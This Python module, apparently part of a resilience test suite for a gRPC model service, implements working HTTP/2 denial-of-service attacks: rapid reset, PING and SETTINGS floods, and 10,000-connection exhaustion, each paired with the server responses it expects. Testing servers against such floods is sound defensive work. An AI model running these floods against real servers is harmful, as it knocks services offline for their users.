"""Attacks by frames and connections, below any call."""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress

from modelservice.v1.model_service_pb2 import GetRequest

from tests.http2 import INITIAL_WINDOW_SIZE, PING, RESET, SETTINGS, frame, setting

from .attack import Attack, Made
from .connection import Connection
from .target import SERVED, Target

GET = "/modelservice.v1.ModelService/Get"
CONTENT = GetRequest(name=SERVED).SerializeToString()
CANCEL = (8).to_bytes(4)
_AT_ONCE = 200
CLOSES_WITHIN_SECONDS = 60


@asynccontextmanager
async def connections(
    target: Target, count: int, answers: Counter[str]
) -> AsyncIterator[list[Connection]]:
    """So many at once, each after its preface."""
    opened: list[Connection] = []
    try:
        for begin in range(0, count, _AT_ONCE):
            opening = (
                Connection.to(target.address, answers) for _ in range(min(_AT_ONCE, count - begin))
            )
            opened.extend(await asyncio.gather(*opening))
        yield opened
    finally:
        for each in opened:
            each.close()
        async with asyncio.timeout(CLOSES_WITHIN_SECONDS):
            await asyncio.gather(*(each.closed.wait() for each in opened))


async def _repeat(
    target: Target, seconds: float, act: Callable[[Connection], int], count: int = 4
) -> Made:
    """Act on so many connections again and again, on new ones where the server hangs up."""
    answers: Counter[str] = Counter()
    made = 0
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while True:
                async with connections(target, count, answers) as opened:
                    while not all(each.closed.is_set() for each in opened):
                        for each in opened:
                            made += act(each)
                            await each.drain()
                        await asyncio.sleep(0)
    return Made(made, answers)


async def rapid_reset(target: Target, seconds: float) -> Made:
    """Calls that are cancelled in the very packet that makes them."""

    def act(connection: Connection) -> int:
        for _ in range(100):
            stream = connection.call(GET, CONTENT)
            connection.send(frame(RESET, 0, stream, CANCEL))
            connection.open.discard(stream)
        return 100

    return await _repeat(target, seconds, act)


async def _flood(target: Target, seconds: float, burst: bytes, frames: int) -> Made:
    def act(connection: Connection) -> int:
        connection.send(burst)
        return frames

    return await _repeat(target, seconds, act)


async def ping_flood(target: Target, seconds: float) -> Made:
    """PINGs without end; where the server hangs up, on new connections."""
    return await _flood(target, seconds, frame(PING, 0, 0, b"attacker") * 100, 100)


async def settings_flood(target: Target, seconds: float) -> Made:
    """SETTINGS that change the window each time."""
    two = b"".join(
        frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, window)) for window in (2**16, 2**20)
    )
    return await _flood(target, seconds, two * 50, 100)


async def many_connections(target: Target, seconds: float) -> Made:
    """10,000 connections, each with its preface, which then wait; one call on each tenth."""
    answers: Counter[str] = Counter()
    async with connections(target, 10_000, answers) as opened:
        called = opened[::10]
        for each in called:
            each.call(GET, CONTENT)
        async with asyncio.timeout(60):
            await asyncio.gather(*(each.answered() for each in called))
        await asyncio.sleep(seconds / 2)
        ended = sum(each.closed.is_set() for each in opened)
    if ended:
        answers["connection closed"] += ended
    return Made(len(opened), answers)


ATTACKS = (
    Attack("rapid reset", rapid_reset, frozenset({"RST 8", "GOAWAY 11"}), by_bytes=True),
    Attack("flood of pings", ping_flood, frozenset({"GOAWAY 11"}), by_bytes=True),
    Attack("flood of settings", settings_flood, frozenset({"GOAWAY 11"}), by_bytes=True),
    Attack("10,000 connections", many_connections, frozenset({"answered"})),
)
